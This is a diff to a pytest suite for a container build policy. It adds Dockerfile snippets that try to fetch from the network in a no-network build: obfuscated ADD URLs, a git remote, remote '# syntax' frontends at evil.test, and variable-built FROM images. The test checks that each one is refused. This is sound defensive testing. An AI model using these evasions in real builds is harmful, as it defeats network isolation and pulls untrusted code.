@@ -60,6 +60,19 @@ network_mode = "no-network"
 build_network = "none"
 """
 TEST = "#!/bin/sh\ncat /made && echo 1 > /logs/verifier/reward.txt\n"
+FETCHES = {
+    "FROM test/bash\nADD http://files.test/x /x\n": "line 2: what ADD names",
+    'FROM test/bash\nADD ["http://files.test/x", "/x"]\n': "line 2: what ADD names",
+    "FROM test/bash\nADD http':'//files.test/x /x\n": "line 2: what ADD names",
+    "FROM test/bash\nADD git@files.test:x.git /x\n": "line 2: what ADD names",
+    "FROM test/bash\nARG WHERE=http:\nADD ${WHERE}//files.test/x /x\n": "line 3: what ADD names",
+    "# syntax=evil.test/x\nFROM test/bash\n": "a program that reads it",
+    "#!/bin/x\n# syntax = evil.test/x\nFROM test/bash\n": "a program that reads it",
+    "FROM ${TARGETOS:+evil.test/}bash\n": "line 1: an image that depends on TARGETOS",
+    "FROM scratch\nARG B=test/bash\nFROM ${B:-evil.test/x}\n": "line 3: an image that depends on B",
+    "FROM test/bash\nCOPY --from=$B /x /x\n": "line 2: an image that depends on a variable",
+    "FROM test/bash\nRUN <<EOF\nFROM evil.test/x\nEOF\n": "line 2: what some builders read",
+}
 RUNS = "FROM test/bash\nRUN echo {} > /made\n"
 
 
@@ -166,10 +179,12 @@ async def _check_refusals(build: Callable[[BuildOrder], Awaitable[Image]], order
     with pytest.raises(PolicyError, match="cannot keep an allowlist"):
         await build(replace(order, network=NetworkPolicy("allowlist", ("example.com",))))
     elsewhere = order.context.with_name("elsewhere.Dockerfile")
-    if order.network == NONE:
-        elsewhere.write_text("FROM test/bash\nARG WHERE=http://files.test/\nADD ${WHERE}x /x\n")
-        with pytest.raises(PolicyError, match="fetches the URLs of ADD also in a build without a network"):
-            await build(replace(order, key="added", dockerfile=elsewhere, target=None))
+    for number, (text, why) in enumerate(FETCHES.items()):
+        elsewhere.write_text(text)
+        with pytest.raises(PolicyError, match=f"would fetch, from any host, {why}"):
+            await build(replace(order, key=f"fetch {number}", dockerfile=elsewhere, target=None))
+    with pytest.raises(PolicyError, match="a program that reads it"):
+        await build(replace(order, key="syntax", args={**order.args, "BUILDKIT_SYNTAX": "evil.test/x"}))
     elsewhere.write_text("FROM test/bash\nRUN echo last words; exit 3\n")
     with pytest.raises(ImageError, match=r"(?s)elsewhere.*RUN echo last words; exit 3.*last words") as failed:
         await build(replace(order, key="other", dockerfile=elsewhere, target=None))
